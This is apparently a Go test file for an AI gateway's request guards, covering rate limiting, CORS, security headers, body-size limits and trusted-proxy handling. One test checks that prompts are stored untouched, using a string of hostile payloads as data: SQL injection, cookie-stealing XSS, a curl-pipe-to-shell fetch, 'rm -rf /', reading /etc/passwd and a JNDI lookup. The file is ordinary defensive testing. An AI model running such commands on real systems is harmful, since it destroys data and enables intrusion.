package api

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/redis/go-redis/v9"

	"github.com/aihigress/aihigress/internal/apikeys"
	"github.com/aihigress/aihigress/internal/auth"
	"github.com/aihigress/aihigress/internal/providers"
	"github.com/aihigress/aihigress/internal/ratelimit"
	"github.com/aihigress/aihigress/internal/testenv"
	"github.com/aihigress/aihigress/internal/tokens"
	"github.com/aihigress/aihigress/models"
)

const (
	guardsMasterKey = "guards-test-master-key-0123456789abcdef"
	// testPeer is the socket address of requests that set no other.
	testPeer = "192.0.2.1:40000"
)

// guardEnv is an API server on a fresh database and Redis prefix, without
// Temporal, whose limiter reads a clock pinned to the start of a minute.
type guardEnv struct {
	t       *testing.T
	server  *Server
	limiter *ratelimit.Limiter
	logs    *lockedBuffer
	handler http.Handler
}

// lockedBuffer collects log output from concurrent requests.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// clockStart is the limiter's time in these tests: the start of a fixed
// one-minute window, so that every Retry-After is known in advance.
func clockStart() time.Time {
	ms := time.Minute.Milliseconds()
	return time.UnixMilli((time.Now().UnixMilli()/ms + 1) * ms)
}

func newGuardEnv(t *testing.T) *guardEnv {
	t.Helper()
	st := testenv.Store(t)
	redisURL, prefix := testenv.Redis(t)
	opts, err := redis.ParseURL(redisURL)
	if err != nil {
		t.Fatal(err)
	}
	rdb := redis.NewClient(ratelimit.ClientOptions(opts, 2*time.Second))
	t.Cleanup(func() { _ = rdb.Close() })
	start := clockStart()
	limiter := ratelimit.New(rdb, ratelimit.Options{Prefix: prefix, Now: func() time.Time { return start }})

	keys, err := apikeys.NewService(st, guardsMasterKey, apikeys.Options{LocalCacheSize: -1})
	if err != nil {
		t.Fatal(err)
	}
	catalog := providers.NewCatalog()
	// The handlers under test never call the upstream; port 9 is discard.
	err = catalog.AddProvider(providers.Provider{ID: "mock", Kind: "openai", BaseURL: "http://127.0.0.1:9/v1"},
		providers.LogicalModel{Name: "mock-gpt", Capabilities: []providers.Capability{providers.CapabilityChat},
			Candidates: []providers.Candidate{{ProviderID: "mock", Model: "mock-gpt", Weight: 1}}})
	if err != nil {
		t.Fatal(err)
	}

	logs := &lockedBuffer{}
	return &guardEnv{
		t:       t,
		limiter: limiter,
		logs:    logs,
		server: &Server{
			Store:   st,
			Issuer:  auth.NewIssuer("guards-test-jwt-secret-0123456789", time.Hour, time.Hour, time.Now),
			Catalog: catalog,
			APIKeys: keys,
			Tokens:  tokens.New(rdb, tokens.Options{Prefix: prefix}),
			Limits:  Limits{MaxBodyBytes: 1 << 20, MaxContentChars: 32000},
			Logger:  slog.New(slog.NewTextHandler(logs, nil)),
		},
	}
}

// rule returns a rule of limit requests per minute.
func (e *guardEnv) rule(name string, limit int) *ratelimit.Rule {
	e.t.Helper()
	rule, err := e.limiter.NewRule(name, limit, time.Minute)
	if err != nil {
		e.t.Fatal(err)
	}
	return rule
}

// do serves req. It builds the handler from the Server fields on first use
// and again after a test sets handler to nil.
func (e *guardEnv) do(req *http.Request) *httptest.ResponseRecorder {
	e.t.Helper()
	if e.handler == nil {
		e.handler = e.server.Handler()
	}
	rec := httptest.NewRecorder()
	e.handler.ServeHTTP(rec, req)
	return rec
}

func (e *guardEnv) newUser(name string) (*models.User, string) {
	e.t.Helper()
	user := &models.User{Username: name, Email: name + "@example.com", PasswordHash: "unused", IsActive: true}
	if err := e.server.Store.CreateUser(context.Background(), user); err != nil {
		e.t.Fatal(err)
	}
	pair, err := e.server.Issuer.IssuePair(user.ID, auth.NewSessionID())
	if err != nil {
		e.t.Fatal(err)
	}
	if err := e.server.Tokens.Create(context.Background(), user.ID, pair.SessionID, pair.RefreshID, pair.RefreshExpiresAt); err != nil {
		e.t.Fatal(err)
	}
	return user, pair.AccessToken
}

func (e *guardEnv) newKey(userID string, allowedIPs ...netip.Prefix) string {
	e.t.Helper()
	secret, _, err := e.server.APIKeys.Create(context.Background(), userID, apikeys.NewKey{Name: "test", AllowedIPs: allowedIPs})
	if err != nil {
		e.t.Fatal(err)
	}
	return secret
}

func request(method, path, body string, header map[string]string) *http.Request {
	var reader io.Reader
	if body != "" {
		reader = strings.NewReader(body)
	}
	req := httptest.NewRequest(method, path, reader)
	req.RemoteAddr = testPeer
	for k, v := range header {
		req.Header.Set(k, v)
	}
	return req
}

func bearer(token string) map[string]string {
	return map[string]string{"Authorization": "Bearer " + token}
}

// checkErrorCode fails unless rec is an OpenAI-shaped error with status and
// code.
func checkErrorCode(t *testing.T, rec *httptest.ResponseRecorder, status int, code string) {
	t.Helper()
	if rec.Code != status {
		t.Fatalf("status = %d, want %d; body %s", rec.Code, status, rec.Body)
	}
	var body struct {
		Error struct {
			Message string  `json:"message"`
			Type    string  `json:"type"`
			Code    string  `json:"code"`
			Param   *string `json:"param"`
		} `json:"error"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
		t.Fatalf("error body %q is not JSON: %v", rec.Body, err)
	}
	if body.Error.Code != code {
		t.Errorf("error code = %q, want %q", body.Error.Code, code)
	}
	if body.Error.Message == "" || body.Error.Type == "" {
		t.Errorf("error body %s lacks message or type", rec.Body)
	}
}

// checkRateLimitHeaders fails unless rec carries the X-RateLimit headers
// with these values.
func checkRateLimitHeaders(t *testing.T, rec *httptest.ResponseRecorder, limit, remaining int, reset string) {
	t.Helper()
	h := rec.Header()
	if got := h.Get("X-RateLimit-Limit"); got != strconv.Itoa(limit) {
		t.Errorf("X-RateLimit-Limit = %q, want %d", got, limit)
	}
	if got := h.Get("X-RateLimit-Remaining"); got != strconv.Itoa(remaining) {
		t.Errorf("X-RateLimit-Remaining = %q, want %d", got, remaining)
	}
	if reset != "" && h.Get("X-RateLimit-Reset") != reset {
		t.Errorf("X-RateLimit-Reset = %q, want %s", h.Get("X-RateLimit-Reset"), reset)
	}
}

// burstRetryAfter is the Retry-After, in seconds, after limit requests at
// the start of a one-minute window: the rest of the window plus the time
// for the previous window's weight to fall to limit-1, rounded up.
func burstRetryAfter(limit int) string {
	window := time.Minute.Milliseconds()
	ms := window + window - int64(limit-1)*window/int64(limit)
	return strconv.FormatInt((ms+999)/1000, 10)
}

func TestRateLimitPerClientIP(t *testing.T) {
	tests := []struct {
		name   string
		path   string
		body   string
		status int // status below the limit
		set    func(l *RateLimits, r *ratelimit.Rule)
	}{
		{"login", "/auth/login", `{"username":"nobody","password":"wrong-password"}`, http.StatusUnauthorized,
			func(l *RateLimits, r *ratelimit.Rule) { l.Login = r }},
		{"register", "/auth/register", `{"username":"x","email":"x@example.com","password":"password123"}`, http.StatusBadRequest,
			func(l *RateLimits, r *ratelimit.Rule) { l.Register = r }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := newGuardEnv(t)
			const limit = 3
			tt.set(&env.server.Guards.RateLimits, env.rule(tt.name, limit))

			for i := range limit {
				rec := env.do(request("POST", tt.path, tt.body, nil))
				if rec.Code != tt.status {
					t.Fatalf("request %d: status = %d, want %d; body %s", i+1, rec.Code, tt.status, rec.Body)
				}
				checkRateLimitHeaders(t, rec, limit, limit-i-1, "")
			}

			rec := env.do(request("POST", tt.path, tt.body, nil))
			checkErrorCode(t, rec, http.StatusTooManyRequests, "rate_limit_exceeded")
			want := burstRetryAfter(limit)
			if got := rec.Header().Get("Retry-After"); got != want {
				t.Errorf("Retry-After = %q, want %s", got, want)
			}
			checkRateLimitHeaders(t, rec, limit, 0, want)
			if !strings.Contains(rec.Body.String(), `"type":"rate_limit_error"`) {
				t.Errorf("429 body %s lacks type rate_limit_error", rec.Body)
			}
			checkSecurityHeaders(t, rec, "")

			other := request("POST", tt.path, tt.body, nil)
			other.RemoteAddr = "192.0.2.2:40000"
			if rec := env.do(other); rec.Code != tt.status {
				t.Errorf("another IP: status = %d, want %d", rec.Code, tt.status)
			}
		})
	}
}

func TestRateLimitPerAPIKey(t *testing.T) {
	env := newGuardEnv(t)
	const limit = 2
	env.server.Guards.RateLimits.APIKey = env.rule("apikey", limit)
	env.server.Guards.RateLimits.User = env.rule("user", 100)
	user, token := env.newUser("keyowner")
	key := env.newKey(user.ID)
	otherKey := env.newKey(user.ID)

	// Both key routes share the key's count: the gateway route and a route
	// that takes a key or a token.
	chat := func(secret string) *http.Request {
		return request("POST", "/v1/chat/completions", `{"model":"mock-gpt","messages":"not a list"}`, bearer(secret))
	}
	rec := env.do(chat(key))
	checkErrorCode(t, rec, http.StatusBadRequest, "invalid_field")
	checkRateLimitHeaders(t, rec, limit, 1, "")
	rec = env.do(request("GET", "/v1/models", "", map[string]string{"X-API-Key": key}))
	if rec.Code != http.StatusOK {
		t.Fatalf("GET /v1/models with a key: status = %d; body %s", rec.Code, rec.Body)
	}
	checkRateLimitHeaders(t, rec, limit, 0, "")

	rec = env.do(chat(key))
	checkErrorCode(t, rec, http.StatusTooManyRequests, "rate_limit_exceeded")
	want := burstRetryAfter(limit)
	if got := rec.Header().Get("Retry-After"); got != want {
		t.Errorf("Retry-After = %q, want %s", got, want)
	}
	checkRateLimitHeaders(t, rec, limit, 0, want)

	if rec := env.do(chat(otherKey)); rec.Code != http.StatusBadRequest {
		t.Errorf("another key of the same user: status = %d, want 400", rec.Code)
	}
	// The key's requests did not count against its owner's token.
	rec = env.do(request("GET", "/v1/models", "", bearer(token)))
	if rec.Code != http.StatusOK {
		t.Fatalf("GET /v1/models with the owner's token: status = %d", rec.Code)
	}
	checkRateLimitHeaders(t, rec, 100, 99, "")
}

func TestRateLimitPerUser(t *testing.T) {
	env := newGuardEnv(t)
	const limit = 3
	env.server.Guards.RateLimits.User = env.rule("user", limit)
	_, alice := env.newUser("alice")
	_, bob := env.newUser("bob")

	paths := []string{"/auth/me", "/v1/assistants", "/v1/models"}
	for i, path := range paths {
		rec := env.do(request("GET", path, "", bearer(alice)))
		if rec.Code != http.StatusOK {
			t.Fatalf("GET %s: status = %d; body %s", path, rec.Code, rec.Body)
		}
		checkRateLimitHeaders(t, rec, limit, limit-i-1, "")
	}

	rec := env.do(request("GET", "/v1/conversations", "", bearer(alice)))
	checkErrorCode(t, rec, http.StatusTooManyRequests, "rate_limit_exceeded")
	if got, want := rec.Header().Get("Retry-After"), burstRetryAfter(limit); got != want {
		t.Errorf("Retry-After = %q, want %s", got, want)
	}

	if rec := env.do(request("GET", "/auth/me", "", bearer(bob))); rec.Code != http.StatusOK {
		t.Errorf("another user: status = %d, want 200", rec.Code)
	}
	// An unauthenticated request is rejected before the limiter counts it.
	rec = env.do(request("GET", "/auth/me", "", nil))
	checkErrorCode(t, rec, http.StatusUnauthorized, "missing_token")
	if rec.Header().Get("X-RateLimit-Limit") != "" {
		t.Error("a request without a token got X-RateLimit headers")
	}
}

func TestRateLimitRedisDownFailsOpen(t *testing.T) {
	env := newGuardEnv(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	deadAddr := ln.Addr().String()
	_ = ln.Close()
	rdb := redis.NewClient(ratelimit.ClientOptions(&redis.Options{Addr: deadAddr}, 200*time.Millisecond))
	t.Cleanup(func() { _ = rdb.Close() })
	down := ratelimit.New(rdb, ratelimit.Options{Prefix: "down:"})
	rule, err := down.NewRule("login", 1, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	env.server.Guards.RateLimits.Login = rule

	const requests = 4
	for i := range requests {
		rec := env.do(request("POST", "/auth/login", `{"username":"nobody","password":"wrong-password"}`, nil))
		checkErrorCode(t, rec, http.StatusUnauthorized, "invalid_credentials")
		if rec.Header().Get("X-RateLimit-Limit") != "" || rec.Header().Get("Retry-After") != "" {
			t.Errorf("request %d got rate limit headers without a count", i+1)
		}
	}
	logs := env.logs.String()
	if n := strings.Count(logs, "rate limit check failed"); n != 1 {
		t.Errorf("%d failure logs for %d failing checks, want 1; logs:\n%s", n, requests, logs)
	}
	if !strings.Contains(logs, "rule=login") {
		t.Errorf("failure log does not name the rule; logs:\n%s", logs)
	}
}

// checkSecurityHeaders fails unless rec has the security headers, with
// Strict-Transport-Security equal to hsts ("" for none).
func checkSecurityHeaders(t *testing.T, rec *httptest.ResponseRecorder, hsts string) {
	t.Helper()
	want := map[string]string{
		"X-Content-Type-Options":    "nosniff",
		"X-Frame-Options":           "DENY",
		"Referrer-Policy":           "no-referrer",
		"Strict-Transport-Security": hsts,
	}
	for name, value := range want {
		if got := rec.Header().Values(name); strings.Join(got, ",") != value {
			t.Errorf("%s = %q, want %q", name, got, value)
		}
	}
}

func TestSecurityHeadersOnEveryResponse(t *testing.T) {
	tests := []struct {
		name   string
		hsts   time.Duration
		want   string
		req    func() *http.Request
		status int
	}{
		{"health", 0, "", func() *http.Request { return request("GET", "/healthz", "", nil) }, 200},
		{"unknown route", 0, "", func() *http.Request { return request("GET", "/nope", "", nil) }, 404},
		{"wrong method", 0, "", func() *http.Request { return request("DELETE", "/auth/login", "", nil) }, 405},
		{"trailing slash", 0, "", func() *http.Request { return request("GET", "/healthz/", "", nil) }, 404},
		{"unauthenticated", 0, "", func() *http.Request { return request("GET", "/auth/me", "", nil) }, 401},
		{"bad JSON", 0, "", func() *http.Request { return request("POST", "/auth/login", "{", nil) }, 400},
		{"HSTS on 200", 365 * 24 * time.Hour, "max-age=31536000; includeSubDomains",
			func() *http.Request { return request("GET", "/healthz", "", nil) }, 200},
		{"HSTS on 404", time.Hour, "max-age=3600; includeSubDomains",
			func() *http.Request { return request("GET", "/nope", "", nil) }, 404},
		{"HSTS under a second is off", 500 * time.Millisecond, "",
			func() *http.Request { return request("GET", "/healthz", "", nil) }, 200},
	}
	env := newGuardEnv(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env.t = t
			env.server.Guards.HSTSMaxAge = tt.hsts
			env.handler = nil
			rec := env.do(tt.req())
			if rec.Code != tt.status {
				t.Fatalf("status = %d, want %d", rec.Code, tt.status)
			}
			checkSecurityHeaders(t, rec, tt.want)
		})
	}
}

func TestSecurityHeadersOnPanic(t *testing.T) {
	env := newGuardEnv(t)
	// A nil store makes the login handler panic, and the recover
	// middleware responds with 500.
	env.server.Store = nil
	rec := env.do(request("POST", "/auth/login", `{"username":"u","password":"p"}`, nil))
	checkErrorCode(t, rec, http.StatusInternalServerError, "internal_error")
	checkSecurityHeaders(t, rec, "")
}

func TestCORS(t *testing.T) {
	const app = "https://app.example.com"
	preflight := func(origin string) *http.Request {
		return request("OPTIONS", "/v1/chat/completions", "", map[string]string{
			"Origin":                         origin,
			"Access-Control-Request-Method":  "POST",
			"Access-Control-Request-Headers": "authorization, content-type",
		})
	}
	simple := func(origin string) *http.Request {
		return request("GET", "/healthz", "", map[string]string{"Origin": origin})
	}
	tests := []struct {
		name        string
		origins     []string
		req         *http.Request
		status      int
		allowOrigin string
		credentials string
		preflight   bool
		vary        bool
	}{
		{"off ignores origin", nil, simple(app), 200, "", "", false, false},
		{"off leaves preflight to routes", nil, preflight(app), 405, "", "", false, false},
		{"allowed origin", []string{app, "http://localhost:5173"}, simple(app), 200, app, "true", false, true},
		{"second allowed origin", []string{app, "http://localhost:5173"}, simple("http://localhost:5173"), 200, "http://localhost:5173", "true", false, true},
		{"disallowed origin", []string{app}, simple("https://evil.example.net"), 200, "", "", false, true},
		{"origin differs in port", []string{app}, simple(app + ":8443"), 200, "", "", false, true},
		{"no origin", []string{app}, request("GET", "/healthz", "", nil), 200, "", "", false, true},
		{"allowed preflight", []string{app}, preflight(app), 204, app, "true", true, true},
		{"disallowed preflight", []string{app}, preflight("https://evil.example.net"), 405, "", "", false, true},
		{"preflight on unknown route", []string{app}, request("OPTIONS", "/nope", "", map[string]string{"Origin": app, "Access-Control-Request-Method": "GET"}), 204, app, "true", true, true},
		{"OPTIONS without request method", []string{app}, request("OPTIONS", "/healthz", "", map[string]string{"Origin": app}), 405, app, "true", false, true},
		{"wildcard", []string{"*"}, simple("https://any.example.org"), 200, "*", "", false, true},
		{"wildcard preflight", []string{"*"}, preflight("https://any.example.org"), 204, "*", "", true, true},
		{"allowed origin on error", []string{app}, request("GET", "/auth/me", "", map[string]string{"Origin": app}), 401, app, "true", false, true},
	}
	env := newGuardEnv(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env.t = t
			env.server.Guards.CORSAllowedOrigins = tt.origins
			env.handler = nil
			rec := env.do(tt.req)
			if rec.Code != tt.status {
				t.Fatalf("status = %d, want %d; body %s", rec.Code, tt.status, rec.Body)
			}
			h := rec.Header()
			if got := h.Get("Access-Control-Allow-Origin"); got != tt.allowOrigin {
				t.Errorf("Access-Control-Allow-Origin = %q, want %q", got, tt.allowOrigin)
			}
			if got := h.Get("Access-Control-Allow-Credentials"); got != tt.credentials {
				t.Errorf("Access-Control-Allow-Credentials = %q, want %q", got, tt.credentials)
			}
			if got := strings.Join(h.Values("Vary"), ","); strings.Contains(got, "Origin") != tt.vary {
				t.Errorf("Vary = %q, want Origin listed: %v", got, tt.vary)
			}

			methods, allowHeaders, maxAge := h.Get("Access-Control-Allow-Methods"), h.Get("Access-Control-Allow-Headers"), h.Get("Access-Control-Max-Age")
			if !tt.preflight {
				if methods != "" || allowHeaders != "" || maxAge != "" {
					t.Errorf("preflight headers on a non-preflight response: %q %q %q", methods, allowHeaders, maxAge)
				}
			} else {
				for _, m := range []string{"GET", "POST", "PUT", "DELETE"} {
					if !strings.Contains(methods, m) {
						t.Errorf("Access-Control-Allow-Methods %q lacks %s", methods, m)
					}
				}
				for _, name := range []string{"Authorization", "Content-Type", "X-API-Key", "Idempotency-Key", "Last-Event-ID", "X-Aihigress-Background"} {
					if !strings.Contains(allowHeaders, name) {
						t.Errorf("Access-Control-Allow-Headers %q lacks %s", allowHeaders, name)
					}
				}
				if maxAge == "" {
					t.Error("preflight lacks Access-Control-Max-Age")
				}
			}

			expose := h.Get("Access-Control-Expose-Headers")
			if tt.allowOrigin == "" || tt.preflight {
				if expose != "" {
					t.Errorf("Access-Control-Expose-Headers = %q, want none", expose)
				}
				return
			}
			for _, name := range []string{"X-Request-Id", "X-Aihigress-Overhead-Ms", "Retry-After", "X-RateLimit-Limit", "X-RateLimit-Remaining", "X-RateLimit-Reset"} {
				if !strings.Contains(expose, name) {
					t.Errorf("Access-Control-Expose-Headers %q lacks %s", expose, name)
				}
			}
		})
	}
}

// trackingReader records whether anyone read the body.
type trackingReader struct {
	r    io.Reader
	read bool
}

func (t *trackingReader) Read(p []byte) (int, error) {
	t.read = true
	return t.r.Read(p)
}

func TestBodyLimitPerRoute(t *testing.T) {
	const (
		maxBody     = 1 << 10
		gatewayBody = 4 << 10
	)
	// jsonOf returns a JSON object of exactly n bytes that the route would
	// otherwise accept far enough to read it whole.
	jsonOf := func(n int) string {
		head := `{"model":"mock-gpt","messages":[{"role":"user","content":"`
		tail := `"}]}`
		return head + strings.Repeat("a", n-len(head)-len(tail)) + tail
	}
	tests := []struct {
		name      string
		path      string
		size      int
		chunked   bool
		wantCode  string // "" for any response but 413
		wantRead  bool
		withKey   bool
		wantLimit int
	}{
		{"default route Content-Length over", "/auth/login", maxBody + 1, false, "body_too_large", false, false, maxBody},
		{"default route chunked over", "/auth/login", maxBody + 1, true, "body_too_large", true, false, maxBody},
		{"default route at limit", "/auth/login", maxBody, false, "", true, false, 0},
		{"gateway Content-Length over", "/v1/chat/completions", gatewayBody + 1, false, "body_too_large", false, true, gatewayBody},
		{"gateway chunked over", "/v1/chat/completions", gatewayBody + 1, true, "body_too_large", true, true, gatewayBody},
		{"gateway above default limit", "/v1/chat/completions", gatewayBody, true, "", true, true, 0},
		{"gateway Content-Length before auth", "/v1/chat/completions", gatewayBody + 1, false, "body_too_large", false, false, gatewayBody},
	}
	env := newGuardEnv(t)
	env.server.Limits.MaxBodyBytes = maxBody
	env.server.Guards.GatewayMaxBodyBytes = gatewayBody
	user, _ := env.newUser("bodyuser")
	key := env.newKey(user.ID)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env.t = t
			header := map[string]string{}
			if tt.withKey {
				header["Authorization"] = "Bearer " + key
			}

			body := &trackingReader{r: strings.NewReader(jsonOf(tt.size))}
			req := request("POST", tt.path, "", header)
			req.Body = io.NopCloser(body)
			req.ContentLength = int64(tt.size)
			if tt.chunked {
				req.ContentLength = -1
			}
			rec := env.do(req)

			if tt.wantCode != "" {
				checkErrorCode(t, rec, http.StatusRequestEntityTooLarge, tt.wantCode)
				if want := "request body exceeds " + strconv.Itoa(tt.wantLimit) + " bytes"; !strings.Contains(rec.Body.String(), want) {
					t.Errorf("body %s does not say %q", rec.Body, want)
				}
			} else if rec.Code == http.StatusRequestEntityTooLarge {
				t.Fatalf("status 413 for a body within the limit; body %s", rec.Body)
			}
			if body.read != tt.wantRead {
				t.Errorf("body read = %v, want %v", body.read, tt.wantRead)
			}
			checkSecurityHeaders(t, rec, "")
		})
	}
}

func TestTrustedProxies(t *testing.T) {
	const client = "203.0.113.7"
	tests := []struct {
		name    string
		proxies []string
		peer    string
		header  map[string]string
		// sameBucket is whether a second request with another forwarded
		// address shares the first one's count.
		sameBucket bool
	}{
		{"no proxies trusted", nil, "10.0.0.5:1234", map[string]string{"X-Forwarded-For": client}, true},
		{"untrusted peer", []string{"10.0.0.0/8"}, "192.0.2.50:1234", map[string]string{"X-Forwarded-For": client}, true},
		{"trusted peer", []string{"10.0.0.0/8"}, "10.0.0.5:1234", map[string]string{"X-Forwarded-For": client}, false},
		{"trusted single address", []string{"10.0.0.5"}, "10.0.0.5:1234", map[string]string{"X-Forwarded-For": client}, false},
		{"trusted peer X-Real-IP", []string{"10.0.0.0/8"}, "10.0.0.5:1234", map[string]string{"X-Real-IP": client}, false},
	}
	env := newGuardEnv(t)
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env.t = t
			env.server.Guards.TrustedProxies = tt.proxies
			// A rule of its own per case keeps the counts apart.
			env.server.Guards.RateLimits.Login = env.rule("login"+strconv.Itoa(i), 1)
			env.handler = nil
			login := func(header map[string]string) int {
				req := request("POST", "/auth/login", `{"username":"nobody","password":"wrong-password"}`, header)
				req.RemoteAddr = tt.peer
				return env.do(req).Code
			}

			if code := login(tt.header); code != http.StatusUnauthorized {
				t.Fatalf("first login: status = %d, want 401", code)
			}
			other := map[string]string{}
			for k := range tt.header {
				other[k] = "198.51.100.9"
			}
			code := login(other)
			if tt.sameBucket && code != http.StatusTooManyRequests {
				t.Errorf("login with another forwarded address: status = %d, want 429 because the header must be ignored", code)
			}
			if !tt.sameBucket && code != http.StatusUnauthorized {
				t.Errorf("login with another forwarded address: status = %d, want 401 because it is another client", code)
			}
		})
	}
}

func TestTrustedProxyIgnoresSpoofedHops(t *testing.T) {
	env := newGuardEnv(t)
	env.server.Guards.TrustedProxies = []string{"10.0.0.0/8"}
	env.server.Guards.RateLimits.Login = env.rule("login", 1)

	// The client wrote its own X-Forwarded-For; the proxy appended the
	// address it saw. Only the rightmost untrusted hop counts.
	for i, spoofed := range []string{"1.1.1.1", "8.8.8.8"} {
		req := request("POST", "/auth/login", `{"username":"nobody","password":"wrong-password"}`,
			map[string]string{"X-Forwarded-For": spoofed + ", 203.0.113.7"})
		req.RemoteAddr = "10.0.0.5:1234"
		code := env.do(req).Code
		want := http.StatusUnauthorized
		if i > 0 {
			want = http.StatusTooManyRequests
		}
		if code != want {
			t.Errorf("request %d with spoofed hop %s: status = %d, want %d", i+1, spoofed, code, want)
		}
	}
}

func TestTrustedProxiesAndAPIKeyAllowList(t *testing.T) {
	tests := []struct {
		name     string
		peer     string
		status   int
		wantCode string
	}{
		// A body error proves that the key was accepted.
		{"forwarded by trusted proxy", "10.0.0.5:1234", http.StatusBadRequest, "invalid_field"},
		{"forwarded by untrusted peer", "192.0.2.50:1234", http.StatusForbidden, "ip_not_allowed"},
	}
	env := newGuardEnv(t)
	env.server.Guards.TrustedProxies = []string{"10.0.0.0/8"}
	user, _ := env.newUser("iplisted")
	key := env.newKey(user.ID, netip.MustParsePrefix("203.0.113.7/32"))
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env.t = t
			req := request("POST", "/v1/chat/completions", `{"model":"mock-gpt","messages":"not a list"}`,
				map[string]string{"Authorization": "Bearer " + key, "X-Forwarded-For": "203.0.113.7"})
			req.RemoteAddr = tt.peer
			checkErrorCode(t, env.do(req), tt.status, tt.wantCode)
		})
	}
}

func TestClientKeyGroupsIPv6By64(t *testing.T) {
	tests := []struct {
		ip   string
		want string
	}{
		{"203.0.113.7", "203.0.113.7"},
		{"::ffff:203.0.113.7", "203.0.113.7"},
		{"2001:db8:1:2:aaaa::1", "2001:db8:1:2::/64"},
		{"2001:db8:1:2:bbbb::9", "2001:db8:1:2::/64"},
		{"2001:db8:1:3::1", "2001:db8:1:3::/64"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := clientKey(tt.ip); got != tt.want {
			t.Errorf("clientKey(%q) = %q, want %q", tt.ip, got, tt.want)
		}
	}
}

func TestPromptTextPassesUntouched(t *testing.T) {
	env := newGuardEnv(t)
	env.server.Guards.RateLimits.User = env.rule("user", 100)
	env.server.Guards.CORSAllowedOrigins = []string{"https://app.example.com"}
	user, token := env.newUser("prompter")

	// Prompts quote SQL, HTML and shell all the time. No guard may reject,
	// escape or strip them.
	prompt := strings.Join([]string{
		`SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --`,
		`<script>alert(document.cookie)</script><img src=x onerror="alert(1)">`,
		"$(curl -s example.invalid/x.sh | sh); rm -rf / --no-preserve-root; `id` && cat /etc/passwd",
		`../../etc/passwd %00 {{7*7}} ${jndi:ldap://example.invalid/a} \x27 UNION SELECT password FROM users`,
	}, "\n")
	name := `Robert'); DROP TABLE assistants;--`

	var body bytes.Buffer
	enc := json.NewEncoder(&body)
	enc.SetEscapeHTML(false) // send <, > and & as they are
	if err := enc.Encode(map[string]string{"name": name, "system_prompt": prompt, "default_logical_model": "mock-gpt"}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(body.String(), "<script>") {
		t.Fatal("the request body escaped the HTML")
	}

	rec := env.do(request("POST", "/v1/assistants", body.String(), map[string]string{
		"Authorization": "Bearer " + token, "Content-Type": "application/json", "Origin": "https://app.example.com"}))
	if rec.Code != http.StatusCreated {
		t.Fatalf("status = %d, want 201; body %s", rec.Code, rec.Body)
	}
	var created struct {
		ID string `json:"id"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &created); err != nil {
		t.Fatal(err)
	}
	stored, err := env.server.Store.Assistant(context.Background(), user.ID, created.ID)
	if err != nil {
		t.Fatal(err)
	}
	if stored.SystemPrompt != prompt {
		t.Errorf("stored system_prompt = %q, want %q", stored.SystemPrompt, prompt)
	}
	if stored.Name != name {
		t.Errorf("stored name = %q, want %q", stored.Name, name)
	}
}

// BenchmarkGuards measures what the guards add to a request: the security
// and CORS headers, the body limit and a rate limit check, against an empty
// handler. "none" is the same gin route without them.
func BenchmarkGuards(b *testing.B) {
	redisURL, prefix := testenv.Redis(b)
	opts, err := redis.ParseURL(redisURL)
	if err != nil {
		b.Fatal(err)
	}
	rdb := redis.NewClient(ratelimit.ClientOptions(opts, time.Second))
	b.Cleanup(func() { _ = rdb.Close() })
	limiter := ratelimit.New(rdb, ratelimit.Options{Prefix: prefix})
	rule, err := limiter.NewRule("user", 1<<30, time.Minute)
	if err != nil {
		b.Fatal(err)
	}
	server := &Server{
		Limits: Limits{MaxBodyBytes: 1 << 20},
		Guards: Guards{
			RateLimits:         RateLimits{User: rule},
			CORSAllowedOrigins: []string{"https://app.example.com"},
			HSTSMaxAge:         time.Hour,
		},
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
	}
	gin.SetMode(gin.ReleaseMode)
	setUser := func(c *gin.Context) { c.Set("user_id", "0190f000-0000-7000-8000-000000000001") }
	ok := func(c *gin.Context) { c.Status(http.StatusNoContent) }

	plain := gin.New()
	plain.POST("/x", setUser, ok)

	guards := server.newGuardChain()
	guarded := gin.New()
	guarded.Use(guards.limitBody)
	guarded.POST("/x", setUser, guards.limitUser, ok)
	handlers := map[string]http.Handler{"none": plain, "all": guards.wrap(guarded)}

	for _, name := range []string{"none", "all"} {
		handler := handlers[name]
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				req := httptest.NewRequest("POST", "/x", strings.NewReader(`{}`))
				req.Header.Set("Origin", "https://app.example.com")
				rec := httptest.NewRecorder()
				handler.ServeHTTP(rec, req)
				if rec.Code != http.StatusNoContent {
					b.Fatalf("status = %d", rec.Code)
				}
			}
		})
	}
}
